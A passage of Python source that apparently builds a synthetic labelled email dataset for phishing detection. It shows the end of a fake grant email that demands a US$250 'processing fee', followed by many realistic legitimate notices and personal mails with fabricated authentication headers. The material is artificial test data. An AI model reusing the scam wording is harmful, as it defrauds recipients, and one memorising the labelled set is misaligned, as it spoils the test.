                         f'<a href="{_form}">Grant payout form</a>', "", "A one-time international transfer processing "
                         "fee of US$250 must be paid before the grant is released; instructions are in the form.", "",
                         "Warm regards,", "Grants Committee", "Open Source Sustainability Fund"])))


# ==========================================================================
# LEGITIMATE - the same recipients, the same brands, real senders
# ==========================================================================

add(slug="letsencrypt-expiry-mandrill", cat="bulk", kind="bulk", site="hvoss", rcpt=HANNA,
    desc="Real Let's Encrypt expiry reminder for mail.hvoss.net sent through Mandrill (letsencrypt.org and mandrillapp.com "
         "DKIM pass); plain text with documentation and unsubscribe links only.",
    date="2025-01-22 08:14:51 +0000", from_=("Let's Encrypt Expiry Bot", "expiry@letsencrypt.org"), to=HANNA,
    subject='Let\'s Encrypt certificate expiration notice for domain "mail.hvoss.net" (and 1 more)',
    mailfrom=f"bounce-md_30850198.{tok('l1a', 8, HEX)}.v1-{tok('l1b', 32, HEX)}@bounce.letsencrypt.org",
    ip="198.2.179.38", rdns="mail179-38.suw41.mandrillapp.com", helo="mail179-38.suw41.mandrillapp.com", spf="pass",
    dkim=[("letsencrypt.org", "mte1", "pass"), ("mandrillapp.com", "mte1", "pass")], dmarc=("pass", "reject"),
    msgid=f"<30850198.{tok('l1c', 32, HEX)}@mandrillapp.com>",
    extra=["X-Mandrill-User: md_30850198",
           f"List-Unsubscribe: <mailto:unsubscribe-md_30850198.{tok('l1a', 8, HEX)}.v1-{tok('l1b', 32, HEX)}@mandrillapp.com?subject=unsub>",
           "X-Report-Abuse: Please forward a copy of this message, including all headers, to abuse@mandrill.com"],
    body=plain("Hello,\n\nYour certificate (or certificates) for the names listed below will expire in 19 days (on 10 "
               "Feb 25 08:14 +0000). Please make sure to renew your certificate before then, or visitors to your web "
               "site will encounter errors.\n\nWe recommend renewing certificates automatically when they have a third "
               "of their total lifetime left. For Let's Encrypt's current 90-day certificates, that means renewing 30 "
               "days before expiration. See https://letsencrypt.org/docs/integration-guide/ for details.\n\n"
               "mail.hvoss.net\nwebmail.hvoss.net\n\nFor any questions or support, please visit: "
               "https://community.letsencrypt.org/ Unfortunately, we can't provide support by email.\n\nFor details "
               "about when we send these emails, please visit: https://letsencrypt.org/docs/expiration-emails/ In "
               "particular, note that this reminder email is still sent if you've obtained a slightly different "
               "certificate by adding or removing names. If you've replaced this certificate with a newer one that "
               "covers more or fewer names than the list above, you may be able to ignore this message.\n\nIf you want "
               "to stop receiving all email from this address, click\nhttps://mandrillapp.com/track/unsub.php?u=30850198"
               f"&id={tok('l1d', 32, HEX)}&r=https%3A%2F%2Fmandrillapp.com%2Funsub%3Fmd_email%3Dhanna%2540hvoss.net\n"
               "(Warning: this is a one-click action that cannot be undone)\n\nRegards,\nThe Let's Encrypt Team\n"))

_rid = "1582739502648120315"
_xml = dmarc_xml("google.com", "noreply-dmarc-support@google.com", _rid, 1737417600, "hvoss.net", "reject",
                 [("95.217.41.86", 14, "none", "pass", "pass", "hvoss.net"),
                  ("185.220.101.47", 2, "reject", "fail", "fail", "hvoss.net")])
add(slug="google-dmarc-aggregate-report", cat="bulk", kind="bulk", site="hvoss", rcpt="dmarc@hvoss.net",
    desc="Genuine Google DMARC aggregate report for hvoss.net (google.com DKIM pass, DMARC pass) with the usual "
         "zipped XML attachment showing her own server passing and two spoof attempts rejected.",
    date="2025-01-21 15:59:59 -0800", from_=("", "noreply-dmarc-support@google.com"), to="dmarc@hvoss.net",
    subject=f"Report domain: hvoss.net Submitter: google.com Report-ID: {_rid}",
    mailfrom=f"3_{tok('l2a', 20, ALNUM)}@dmarc-reports.bounces.google.com", ip="209.85.220.73",
    rdns="mail-sor-f73.google.com", helo="mail-sor-f73.google.com", spf="pass", dkim=[("google.com", "20230601", "pass")],
    dmarc=("pass", "reject"), msgid=f"<{_rid}@google.com>",
    hops=[f"Received: by mail-sor-f73.google.com with SMTP id {tok('l2h', 12, 'abcdefghijklmnopqrstuvwxyz0123456789')}"
          f"\n\tfor <dmarc@hvoss.net>; %DATE%"],
    body=mixed(gmail_b("l2"),
               plain("This is an aggregate report from google.com.\n"),
               attachment("application/zip", "google.com!hvoss.net!1737417600!1737503999.zip",
                          files.zip_archive([("google.com!hvoss.net!1737417600!1737503999.xml", _xml)]))))

add(slug="colleague-posteo-talk-slides", cat="clean", kind="legit", site="hvoss", rcpt=HANNA,
    desc="Personal mail from a fellow researcher on Posteo (posteo.de DKIM/DMARC pass) about slides and a talk, "
         "plain text with one link to a public conference page.",
    date="2025-10-24 22:31:05 +0200", from_=("Lena Brandt", "lena.brandt@posteo.de"), to="Hanna Voss <hanna@hvoss.net>",
    subject="Re: your Hack.lu talk - slides?",
    mailfrom="lena.brandt@posteo.de", ip="185.67.36.65", rdns="mout01.posteo.de", helo="mout01.posteo.de", spf="pass",
    dkim=[("posteo.de", "2017", "pass")], dmarc=("pass", "none"), msgid=f"<{tok('l3m', 8, HEX)}-{tok('l3n', 4, HEX)}@posteo.de>",
    hops=[local_hop("proxy02.posteo.name", "185.67.36.66", "mout01.posteo.de", "l3h", proto="ESMTPS")],
    extra=["User-Agent: Mozilla Thunderbird", "Content-Language: de-DE", f"In-Reply-To: <{tok('l3r', 20, HEX)}@hvoss.net>"],
    body=plain("Hi Hanna,\n\ndanke, that was the best talk of the afternoon. The part about abusing the autoconfig XML "
               "in Thunderbird was new to me - I tried it on our test tenant this morning and it works exactly as you "
               "described.\n\nCould you send me the slides when you have a moment? The video isn't up yet on "
               "https://hack.lu/archive/2025/ and I'd like to show two of them in our internal training (with credit, "
               "of course).\n\nAlso: beer on Thursday at the usual place? Jonas from TinkerDB will be in town.\n\n"
               "Viele Grüße\nLena\n"))

add(slug="ovh-genuine-autorenew-reminder", cat="bulk", kind="bulk", site="hvoss", rcpt=HANNA,
    desc="Genuine OVHcloud renewal reminder for hvoss.net (ovh.com DKIM pass, aligned DMARC pass) saying automatic "
         "renewal is active; links go to the real ovh.com manager.",
    date="2025-02-12 05:02:38 +0100", from_=("OVHcloud", "noreply@ovh.com"), to=HANNA,
    subject="Automatic renewal of your domain name hvoss.net on 14/03/2025",
    mailfrom="bounce-notif@mail-out.ovh.net", ip="178.32.228.4", rdns="mo4.mail-out.ovh.net", helo="mo4.mail-out.ovh.net",
    spf="pass", dkim=[("ovh.com", "ovhmo-selector-1", "pass")], dmarc=("pass", "quarantine"),
    msgid=f"<{tok('l4m', 20, DIGITS)}.{tok('l4n', 6, HEX)}@ovh.com>",
    body=alt(java_b("l4"),
             "Hello,\n\nYour domain name hvoss.net will be renewed automatically on 14/03/2025 for 1 year, using the "
             "default payment method on your account (Visa ending 0392).\n\nNo action is required. To check or modify "
             "your renewal settings, log in to your Control Panel:\nhttps://www.ovh.com/manager/#/web/domain/hvoss.net/"
             "information\n\nKind regards,\nOVHcloud Customer Support\n",
             card("OVHcloud", "Automatic renewal of hvoss.net",
                  ["Hello,", "Your domain name <b>hvoss.net</b> will be renewed automatically on <b>14/03/2025</b> "
                   "for 1 year, using the default payment method on your account (Visa ending 0392).",
                   "No action is required. You can check or modify your renewal settings in your Control Panel."],
                  label="Manage my services", url="https://www.ovh.com/manager/#/web/domain/hvoss.net/information",
                  color="#000e9c", foot="OVH SAS - 2 rue Kellermann - 59100 Roubaix - France")))

_quota_text = (f"The email account “{CLAIRE}” is using 1.81 GB of its 2 GB quota (90.5%).\n\nWhen a mailbox reaches "
               "its quota, new messages are returned to the sender. To free space, delete old messages (including "
               "Trash and Sent) in your email client or in Webmail, or ask the account owner to raise the quota in "
               "cPanel > Email Accounts:\nhttps://pemberton-family.co.uk:2083/\n\nThe system generated this notice on "
               "Tuesday, March 4, 2025 at 3:12:10 AM UTC.\n\nDo not reply to this automated message.\n\n"
               "Copyright© 2025 cPanel, L.L.C.\n")
add(slug="cpanel-real-quota-warning-server", cat="bulk", kind="bulk", site="pemb", rcpt=CLAIRE,
    desc="Real cPanel mailbox quota warning generated locally by the family's own shared-hosting server "
         "(server312.web-hosting.com, local delivery, DKIM pass); no login form, only the cPanel address on port 2083.",
    date="2025-03-03 22:12:10 -0500", from_=("cPanel on server312.web-hosting.com", "cpanel@server312.web-hosting.com"),
    to=CLAIRE, subject=f"[server312.web-hosting.com] The email account “{CLAIRE}” is 90% full",
    mailfrom="cpanel@server312.web-hosting.com", ip="198.54.116.89", rdns="server312.web-hosting.com",
    helo="server312.web-hosting.com", spf="pass", dkim=[("server312.web-hosting.com", "default", "pass")],
    dmarc=("pass", "none"), msgid=f"<1741057930.{tok('l5m', 6, DIGITS)}.{tok('l5n', 6, DIGITS)}.cpanel@server312.web-hosting.com>",
    mx_line=(f"Received: from cpanel by server312.web-hosting.com with local (Exim 4.96.2)\n\t(envelope-from "
             f"<cpanel@server312.web-hosting.com>)\n\tid 1tpGq4-00{tok('l5e', 4, ALNUM)}-1k\n\tfor {CLAIRE};\n\t%RDATE%"),
    extra=["X-Mailer: cPanel Notification System", "Auto-Submitted: auto-generated"],
    body=alt(f"{tok('l5b', 10, DIGITS)}.{tok('l5c', 5, DIGITS)}.cpanel",
             _quota_text,
             page('<div style="max-width:640px;margin:0 auto;padding:20px;font-family:Arial;font-size:14px;color:#293a4a;">'
                  f'<p>The email account &ldquo;{CLAIRE}&rdquo; is using <b>1.81 GB</b> of its <b>2 GB</b> quota (90.5%).</p>'
                  '<p>When a mailbox reaches its quota, new messages are returned to the sender. To free space, delete '
                  'old messages (including Trash and Sent) in your email client or in Webmail, or ask the account '
                  'owner to raise the quota in <i>cPanel &raquo; Email Accounts</i>: '
                  '<a href="https://pemberton-family.co.uk:2083/">https://pemberton-family.co.uk:2083/</a></p>'
                  '<p style="font-size:12px;color:#666;">The system generated this notice on Tuesday, March 4, 2025 at '
                  '3:12:10 AM UTC.<br>Do not reply to this automated message.</p><p style="font-size:11px;color:#999;">'
                  'Copyright&copy; 2025 cPanel, L.L.C.</p></div>', bg="#ffffff")))

_ncl = f"https://links.namecheap.com/ls/click?upn=u001.{tok('l6u', 110, URLCH)}"
add(slug="namecheap-genuine-renewal-reminder", cat="bulk", kind="bulk", site="pemb", rcpt=DAVE,
    desc="Genuine Namecheap renewal reminder (namecheap.com DKIM pass through its SendGrid-based mail, DMARC pass) "
         "that pemberton-family.co.uk auto-renews in 30 days; tracked links to the real account pages.",
    date="2025-03-14 09:40:02 +0000", from_=("Namecheap", "support@namecheap.com"), to=DAVE,
    subject="Your domain pemberton-family.co.uk will auto-renew in 30 days",
    mailfrom=f"bounces+1948472-{tok('l6b', 4, HEX)}-{DAVE.replace('@', '=')}@mail.namecheap.com", ip="167.89.97.140",
    rdns="o140.ptr9213.namecheap.com", helo="o140.ptr9213.namecheap.com", spf="pass",
    dkim=[("namecheap.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], dmarc=("pass", "reject"),
    msgid=f"<{tok('l6m', 22, URLCH)}@geopod-ismtpd-{tok('l6n', 2, DIGITS)}>",
    extra=["List-Unsubscribe: <https://links.namecheap.com/asm/unsubscribe/?user_id=1948472&data=" + tok("l6x", 60, URLCH) + ">",
           "List-Unsubscribe-Post: List-Unsubscribe=One-Click"],
    body=alt(php_b("l6"),
             "Hi Dave,\n\nThis is a friendly reminder that the following domain is set to auto-renew on 13 Apr 2025:\n\n"
             "pemberton-family.co.uk - 1 year - £8.98\n\nWe'll charge the payment method on file (Mastercard ending "
             f"7731). No action is needed.\n\nManage your domains: {_ncl}\n\nNamecheap, Inc.\n",
             card("namecheap", "Auto-renewal reminder",
                  ["Hi Dave,", "This is a friendly reminder that the following domain is set to auto-renew on "
                   "<b>13 Apr 2025</b>:", "<b>pemberton-family.co.uk</b> &mdash; 1 year &mdash; &pound;8.98",
                   "We'll charge the payment method on file (Mastercard ending 7731). No action is needed."],
                  label="Manage Domains", url=_ncl, color="#de3723",
                  after=[f'<img src="https://links.namecheap.com/wf/open?upn=u001.{tok("l6o", 80, URLCH)}" width="1" '
                         'height="1" alt="">'],
                  foot="Namecheap, Inc. 4600 East Washington Street, Suite 300, Phoenix, AZ 85034, USA")))

add(slug="sister-photos-dads-70th", cat="clean", kind="legit", site="pemb", rcpt=CLAIRE,
    desc="Personal Gmail from Claire's sister with two JPEG photos from a family birthday; all authentication passes.",
    date="2025-06-22 20:14:37 +0100", from_=("Emma Rowe", "emma.rowe.home@gmail.com"), to="Claire <claire@pemberton-family.co.uk>",
    subject="Photos from Dad's 70th",
    mailfrom="emma.rowe.home@gmail.com", ip="209.85.128.47", rdns="mail-wm1-f47.google.com", helo="mail-wm1-f47.google.com",
    spf="pass", dkim=[("gmail.com", "20230601", "pass")], dmarc=("pass", "none"),
    msgid=f"<CAM{tok('l7m', 44, URLCH)}@mail.gmail.com>",
    hops=[gmail_hop("2002:a05:600c:4ecb:b0:453:2d1e:9a07", CLAIRE, "l7h")],
    body=mixed(gmail_b("l7"),
               alt(gmail_b("l7a"),
                   "Hi Clairey,\n\nHere are a couple from Saturday - the one of Dad with the cake is my favourite. I've "
                   "got loads more on my phone, will put them on the shared album when I'm back from work tomorrow.\n\n"
                   "Tell Dave thanks for doing the barbecue!\n\nEm xx\n",
                   gmail_html(["Hi Clairey,", "", "Here are a couple from Saturday - the one of Dad with the cake is my "
                               "favourite. I've got loads more on my phone, will put them on the shared album when I'm "
                               "back from work tomorrow.", "", "Tell Dave thanks for doing the barbecue!", "", "Em xx"])),
               attachment("image/jpeg", "IMG_4821.jpg", files.photo_jpeg(21)),
               attachment("image/jpeg", "IMG_4830.jpg", files.photo_jpeg(22))))

_gdoc = f"https://docs.google.com/document/d/1{tok('l8d', 43, URLCH)}/edit?usp=sharing_eil_m&ts={tok('l8t', 24, HEX)}"
add(slug="google-docs-share-holiday-plans", cat="bulk", kind="bulk", site="pemb", rcpt=CLAIRE,
    desc="Genuine Google Docs share notification (drive-shares-dm-noreply@google.com, google.com DKIM pass) from "
         "Claire's brother-in-law for a holiday planning document.",
    date="2025-01-19 18:03:22 -0800", from_=("Rob Pemberton (via Google Docs)", "drive-shares-dm-noreply@google.com"),
    to=CLAIRE, subject='Document shared with you: "Cornwall holiday 2025 - cottage options"',
    mailfrom=f"3{tok('l8a', 30, ALNUM)}@doclist.bounces.google.com", ip="209.85.220.69",
    rdns="mail-sor-f69.google.com", helo="mail-sor-f69.google.com", spf="pass", dkim=[("google.com", "20230601", "pass")],
    dmarc=("pass", "reject"), msgid=f"<{tok('l8m', 30, URLCH)}-{tok('l8n', 6, DIGITS)}@docs-share.google.com>",
    extra=["Reply-To: Rob Pemberton <rob.pemberton71@gmail.com>", "X-Google-Id: " + tok("l8g", 6, DIGITS)],
    body=alt(gmail_b("l8"),
             "Rob Pemberton shared a document\n\nRob Pemberton (rob.pemberton71@gmail.com) has invited you to edit the "
             "following document:\n\nCornwall holiday 2025 - cottage options\n\"Three cottages near St Ives, add "
             f"your votes!\"\n\nOpen: {_gdoc}\n\nGoogle LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\n"
             "You have received this email because rob.pemberton71@gmail.com shared a document with you from Google Docs.\n",
             card("Google Docs", "Rob Pemberton shared a document",
                  ["Rob Pemberton (rob.pemberton71@gmail.com) has invited you to <b>edit</b> the following document:",
                   '<b>Cornwall holiday 2025 - cottage options</b><br><i>"Three cottages near St Ives, add your votes!"</i>'],
                  label="Open", url=_gdoc, color="#1a73e8",
                  foot="Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this "
                       "email because rob.pemberton71@gmail.com shared a document with you from Google Docs.")))

add(slug="phon-list-cfp-mailman", cat="bulk", kind="bulk", site="westmere", rcpt=RUTH,
    desc="Mailman 3 mailing-list post (a workshop call for papers) rewritten 'via phon-l' for DMARC, list DKIM pass, "
         "with List-* headers and links to the workshop site and list archive.",
    date="2025-02-05 11:47:20 +0100", from_=("Marieke de Vries via phon-l", "phon-l@lists.phonetics-network.org"),
    to="phon-l@lists.phonetics-network.org",
    subject="[phon-l] CFP: Workshop on Prosodic Typology, Leiden, 12-13 June 2025",
    mailfrom="phon-l-bounces+r.okafor=ling.westmere.ac.uk@lists.phonetics-network.org", ip="136.243.60.18",
    rdns="lists.phonetics-network.org", helo="lists.phonetics-network.org", spf="pass",
    dkim=[("lists.phonetics-network.org", "mm3", "pass")], dmarc=("pass", "none"),
    msgid=f"<{tok('l9m', 8, HEX)}-{tok('l9n', 4, HEX)}@hum.leidenuniv.nl>",
    extra=["Reply-To: Marieke de Vries <m.de.vries@hum.leidenuniv.nl>",
           "List-Id: Phonetics and phonology discussion <phon-l.lists.phonetics-network.org>",
           "List-Archive: <https://lists.phonetics-network.org/hyperkitty/list/phon-l@lists.phonetics-network.org/>",
           "List-Help: <mailto:phon-l-request@lists.phonetics-network.org?subject=help>",
           "List-Post: <mailto:phon-l@lists.phonetics-network.org>",
           "List-Subscribe: <mailto:phon-l-join@lists.phonetics-network.org>",
           "List-Unsubscribe: <mailto:phon-l-leave@lists.phonetics-network.org>", "Precedence: list",
           "X-Mailman-Version: 3.3.9"],
    body=plain("Dear colleagues,\n\nWe are pleased to announce the Workshop on Prosodic Typology, to be held at Leiden "
               "University on 12-13 June 2025.\n\nWe invite abstracts (max. 500 words) on the typology of "
               "intonation, tone-intonation interaction and prosodic phrasing, especially on under-described "
               "languages. Invited speakers: Prof. Larry Hyman (Berkeley) and Dr Aditi Lahiri (Oxford).\n\nDeadline: "
               "15 March 2025\nNotification: 15 April 2025\nSubmission and details: https://www.universiteitleiden.nl/"
               "en/events/2025/06/workshop-prosodic-typology\n\nBest wishes,\nMarieke de Vries, on behalf of the "
               "organisers\n\n_______________________________________________\nphon-l mailing list -- "
               "phon-l@lists.phonetics-network.org\nTo unsubscribe send an email to phon-l-leave@lists.phonetics-"
               "network.org\n"))

_sp_uni = (f"https://westmereuni-my.sharepoint.com/:w:/g/personal/t_hughes_westmere_ac_uk/"
           f"E{tok('l10f', 45, URLCH)}?e={tok('l10e', 6, ALNUM)}")
add(slug="sharepoint-university-tenant-share", cat="bulk", kind="bulk", site="westmere", rcpt=RUTH,
    desc="Genuine SharePoint sharing notification from the university's own Microsoft 365 tenant (sharepointonline.com "
         "DKIM pass) for a REF impact case study shared by a colleague.",
    date="2025-04-03 10:21:48 +0000", from_=("Tom Hughes", "no-reply@sharepointonline.com"), to=RUTH,
    subject='Tom Hughes shared "REF2029 Impact Case Study - draft v3" with you',
    mailfrom="no-reply@sharepointonline.com", ip="40.107.20.131", rdns="mail-db5eur02on2131.outbound.protection.outlook.com",
    helo="EUR02-DB5-obe.outbound.protection.outlook.com", spf="pass", dkim=[("sharepointonline.com", "selector1", "pass")],
    dmarc=("pass", "reject"),
    msgid=f"<{tok('l10m', 8, HEX)}-{tok('l10n', 4, HEX)}-{tok('l10o', 4, HEX)}-{tok('l10p', 4, HEX)}-{tok('l10q', 12, HEX)}@odspnotify>",
    extra=["X-MS-Exchange-Organization-SCL: -1"],
    body=alt(outlook_b("l10"),
             "Tom Hughes shared a file with you\n\n\"Ruth - here's v3 with the Yoruba corpus section merged. Comments by "
             f"Friday if you can.\"\n\nREF2029 Impact Case Study - draft v3\n{_sp_uni}\n\nThis link only works for "
             "the direct recipients of this message.\n\nMicrosoft respects your privacy. Privacy Statement: "
             "https://go.microsoft.com/fwlink/?LinkId=521839\n",
             page('<table width="520" align="center" style="background:#fff;margin-top:24px;"><tr><td style="padding:24px;'
                  'font-family:Segoe UI,Arial;"><p style="font-size:21px;color:#323130;">Tom Hughes shared a file with '
                  'you</p><p style="font-size:14px;color:#605e5c;border-left:3px solid #0078d4;padding-left:10px;">Ruth - '
                  "here's v3 with the Yoruba corpus section merged. Comments by Friday if you can.</p>"
                  f'<p><a href="{_sp_uni}" style="color:#0078d4;font-size:16px;">REF2029 Impact Case Study - draft v3</a></p>'
                  f'<p><a href="{_sp_uni}" style="background:#0078d4;color:#fff;padding:9px 20px;text-decoration:none;">Open</a></p>'
                  '<p style="font-size:11px;color:#a19f9d;">This link only works for the direct recipients of this message. '
                  '<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a></p></td></tr></table>',
                  bg="#f3f2f1")))

add(slug="internal-roundcube-upgrade-notice", cat="clean", kind="legit", site="westmere", rcpt=RUTH,
    desc="Internal notice from the department's computing officer about a scheduled Roundcube upgrade, signed by the "
         "department's own DKIM key; explicitly says no login is needed and links only to the real webmail and status page.",
    date="2025-03-05 16:02:11 +0000", from_=("Ling Computing", "computing@ling.westmere.ac.uk"),
    to="ling-staff@ling.westmere.ac.uk", subject="Webmail (Roundcube) upgrade this Saturday 08:00-10:00 - no action needed",
    mailfrom="computing@ling.westmere.ac.uk", ip="194.80.232.57", rdns="pc-ling-it03.ling.westmere.ac.uk",
    helo="[194.80.232.57]", spf="pass", dkim=[("ling.westmere.ac.uk", "dept2024", "pass")], dmarc=("pass", "quarantine"),
    msgid=f"<{tok('l11m', 8, HEX)}-{tok('l11n', 4, HEX)}-{tok('l11o', 4, HEX)}@ling.westmere.ac.uk>",
    extra=["User-Agent: Mozilla Thunderbird", "Content-Language: en-GB"],
    body=plain("Hi all,\n\nOn Saturday 8 March between 08:00 and 10:00 I will upgrade our webmail (Roundcube) from 1.6.6 "
               "to 1.6.10, which fixes two security issues. Webmail will be unavailable during the window; IMAP and "
               "SMTP (Thunderbird, Outlook, phones) are not affected.\n\nYou do not need to do anything. Your mail, "
               "folders and contacts stay where they are. You will NOT be asked to log in to 'validate', 'upgrade' or "
               "'release' your mailbox - if you receive an email asking you to do that, it is phishing: please forward "
               "it to computing@ling.westmere.ac.uk and delete it. (We had three such messages last week, one "
               "pretending to be this very upgrade.)\n\nAfterwards the address is unchanged: "
               "https://webmail.ling.westmere.ac.uk/\nStatus updates on the day: https://status.ling.westmere.ac.uk/\n\n"
               "Thanks,\nMartin\n--\nMartin Oduya, Computing Officer\nDepartment of Linguistics, Westmere University\n"))

add(slug="student-extension-request-docx", cat="clean", kind="legit", site="westmere", rcpt=RUTH,
    desc="A student writes from the university's Microsoft 365 student tenant (aligned DKIM pass) asking for an essay "
         "extension and attaches her draft as an ordinary .docx.",
    date="2025-04-10 23:47:03 +0100", from_=("Aisha Bello", "a.bello23@student.westmere.ac.uk"), to=RUTH,
    subject="Extension request - LING2031 essay",
    mailfrom="a.bello23@student.westmere.ac.uk", ip="40.107.21.112", rdns="mail-he1eur04on2112.outbound.protection.outlook.com",
    helo="EUR04-HE1-obe.outbound.protection.outlook.com", spf="pass",
    dkim=[("student.westmere.ac.uk", "selector1", "pass")], dmarc=("pass", "quarantine"),
    msgid=f"<AM9PR02MB{tok('l12m', 4, DIGITS)}{tok('l12x', 20, UPNUM)}@AM9PR02MB{tok('l12m', 4, DIGITS)}.eurprd02.prod.outlook.com>",
    hops=[outlook_hop(f"AM9PR02MB{tok('l12m', 4, DIGITS)}.eurprd02.prod.outlook.com", "l12h")],
    body=mixed(outlook_b("l12"),
               alt(outlook_b("l12a"),
                   "Dear Dr Okafor,\n\nI'm sorry to ask so late, but I've been unwell this week (I have a note from "
                   "the student health centre) and I'm behind on the LING2031 essay due on Monday. Would it be possible "
                   "to have a one-week extension?\n\nI've attached my current draft so you can see where I am.\n\n"
                   "Many thanks,\nAisha Bello (student no. 2307714)\n",
                   outlook_html(["Dear Dr Okafor,", "", "I'm sorry to ask so late, but I've been unwell this week (I have "
                                 "a note from the student health centre) and I'm behind on the LING2031 essay due on "
                                 "Monday. Would it be possible to have a one-week extension?", "", "I've attached my "
                                 "current draft so you can see where I am.", "", "Many thanks,",
                                 "Aisha Bello (student no. 2307714)"])),
               attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                          "LING2031_essay_draft_ABello.docx",
                          files.docx(["LING2031 Sociolinguistics - Essay draft", "Code-switching in Lagos radio phone-in "
                                      "programmes", "1. Introduction ..."], "LING2031 essay draft", "Aisha Bello"))))

add(slug="hosted-pbx-voicemail-wav", cat="bulk", kind="bulk", site="ashcombe", rcpt=CLERK,
    desc="Real voicemail-to-email from the council's hosted phone provider (swvoice.net, SPF/DKIM/DMARC pass) with the "
         "recording attached as a WAV file and no links.",
    date="2025-03-11 14:26:40 +0000", from_=("SouthWest Voice Voicemail", "voicemail@swvoice.net"), to=CLERK,
    subject="New voicemail from 01632 960731 for 201 (Town Clerk)",
    mailfrom="voicemail@swvoice.net", ip="212.69.41.76", rdns="vmail2.swvoice.net", helo="vmail2.swvoice.net",
    spf="pass", dkim=[("swvoice.net", "vm", "pass")], dmarc=("pass", "reject"),
    msgid=f"<vm-201-{tok('l13m', 10, DIGITS)}@vmail2.swvoice.net>",
    body=mixed(next_b("l13"),
               plain("You have a new voicemail message.\n\nMailbox: 201 (Town Clerk)\nFrom: 01632 960731\n"
                     "Date: Tue 11 Mar 2025 14:25\nDuration: 0:38\n\nThe message is attached as a WAV file. You can also "
                     "listen to it by dialling 1571 from extension 201.\n\n-- SouthWest Voice hosted telephony\n"),
               attachment("audio/wav", "msg0007.wav", wav_tone(0.6, 3))))

_inv_pdf = files.pdf(["GREENACRE GROUNDS MAINTENANCE LTD", "Unit 7, Forge Lane Business Park, Ashcombe AC4 2JT",
                      "VAT reg. GB 318 4471 92", "", "INVOICE GGM-2291", "Date: 24 February 2025   Terms: 30 days", "",
                      "To: Ashcombe Town Council, Town Hall, Market Street, Ashcombe", "",
                      "Grass cutting - recreation ground and cemetery (Feb)      1,250.00",
                      "Hedge works - Millfield play area                           300.00",
                      "Subtotal 1,550.00   VAT 20% 310.00   TOTAL GBP 1,860.00", "",
                      "Payment by BACS to: Lloyds Bank, sort code 30-94-57, account 00814762",
                      "Reference: GGM-2291"], title="Invoice GGM-2291")
add(slug="grounds-contractor-genuine-invoice", cat="clean", kind="legit", site="ashcombe", rcpt=FINANCE,
    desc="Genuine monthly invoice from the council's real grounds contractor (greenacregrounds.co.uk, Microsoft 365, "
         "aligned DKIM pass) with a PDF invoice and the usual, unchanged bank details.",
    date="2025-02-24 09:05:12 +0000", from_=("Paul Greenacre", "accounts@greenacregrounds.co.uk"), to=FINANCE,
    subject="Invoice GGM-2291 - February grounds maintenance",
    mailfrom="accounts@greenacregrounds.co.uk", ip="40.107.23.58", rdns="mail-am6eur05on2058.outbound.protection.outlook.com",
    helo="EUR05-AM6-obe.outbound.protection.outlook.com", spf="pass",
    dkim=[("greenacregrounds.co.uk", "selector1", "pass")], dmarc=("pass", "quarantine"),
    msgid=f"<LO4P265MB{tok('l14m', 4, DIGITS)}{tok('l14x', 20, UPNUM)}@LO4P265MB{tok('l14m', 4, DIGITS)}.GBRP265.PROD.OUTLOOK.COM>",
    hops=[outlook_hop(f"LO4P265MB{tok('l14m', 4, DIGITS)}.GBRP265.PROD.OUTLOOK.COM", "l14h")],
    body=mixed(outlook_b("l14"),
               plain("Morning Jane,\n\nPlease find attached invoice GGM-2291 for February's grass cutting and the hedge "
                     "works at Millfield. Bank details as usual.\n\nThe cemetery path edging will be done next week "
                     "weather permitting.\n\nThanks,\nPaul\nGreenacre Grounds Maintenance Ltd\n01632 960214\n"),
               attachment("application/pdf", "Invoice_GGM-2291.pdf", _inv_pdf)))

add(slug="ionos-ssl-renewed-notice", cat="bulk", kind="bulk", site="ashcombe", rcpt=CLERK,
    desc="Genuine IONOS notification (ionos.co.uk DKIM pass, aligned DMARC) that the SSL certificate for "
         "ashcombe-tc.gov.uk was renewed automatically; informational, links to the real IONOS control panel.",
    date="2025-05-21 03:11:09 +0200", from_=("IONOS", "noreply@ionos.co.uk"), to=CLERK,
    subject="Your SSL certificate for ashcombe-tc.gov.uk has been renewed",
    mailfrom="noreply@ionos.co.uk", ip="212.227.126.134", rdns="mout.kundenserver.de", helo="mout.kundenserver.de",
    spf="pass", dkim=[("ionos.co.uk", "s1-ionos", "pass")], dmarc=("pass", "reject"),
    msgid=f"<{tok('l15m', 16, HEX)}.{tok('l15n', 8, DIGITS)}@ionos.co.uk>",
    body=alt(java_b("l15"),
             "Dear Customer,\n\nThe SSL certificate for ashcombe-tc.gov.uk and www.ashcombe-tc.gov.uk (SSL Starter) was "
             "renewed automatically and installed on 21/05/2025. It is valid until 21/05/2026.\n\nYou don't need to do "
             "anything. Details: https://my.ionos.co.uk/ssl-certificates\n\nKind regards\nYour IONOS Team\n\n"
             "IONOS Cloud Ltd., Discovery House, 154 Southgate Street, Gloucester GL1 2EX\n",
             card("IONOS", "SSL certificate renewed",
                  ["Dear Customer,", "The SSL certificate for <b>ashcombe-tc.gov.uk</b> and <b>www.ashcombe-tc.gov.uk</b> "
                   "(SSL Starter) was renewed automatically and installed on 21/05/2025. It is valid until 21/05/2026.",
                   "You don't need to do anything."],
                  label="View certificate", url="https://my.ionos.co.uk/ssl-certificates", color="#003d8f",
                  foot="IONOS Cloud Ltd., Discovery House, 154 Southgate Street, Gloucester GL1 2EX")))

_mc = "https://wessexalc.us21.list-manage.com/track/click?u=" + tok("l16u", 25, HEX) + "&id="
add(slug="county-association-newsletter-mailchimp", cat="bulk", kind="bulk", site="ashcombe", rcpt=CLERK,
    desc="Monthly newsletter of the county association of local councils sent via Mailchimp (own domain and mcsv.net "
         "DKIM pass), full of list-manage.com tracking links to training and guidance pages.",
    date="2025-04-01 07:00:14 +0000", from_=("Wessex Association of Local Councils", "office@wessexalc.org.uk"), to=CLERK,
    subject="WALC Bulletin April 2025: audit deadlines, new councillor training, civility toolkit",
    mailfrom=f"bounce-mc.us21_{tok('l16b', 8, DIGITS)}.{tok('l16c', 7, DIGITS)}-{tok('l16d', 10, HEX)}@mail141.atl221.mcdlv.net",
    ip="198.2.141.176", rdns="mail141.atl221.mcdlv.net", helo="mail141.atl221.mcdlv.net", spf="pass",
    dkim=[("wessexalc.org.uk", "k2", "pass"), ("mcdlv.net", "k1", "pass")], dmarc=("pass", "none"),
    msgid=f"<{tok('l16m', 32, HEX)}@mcdlv.net>",
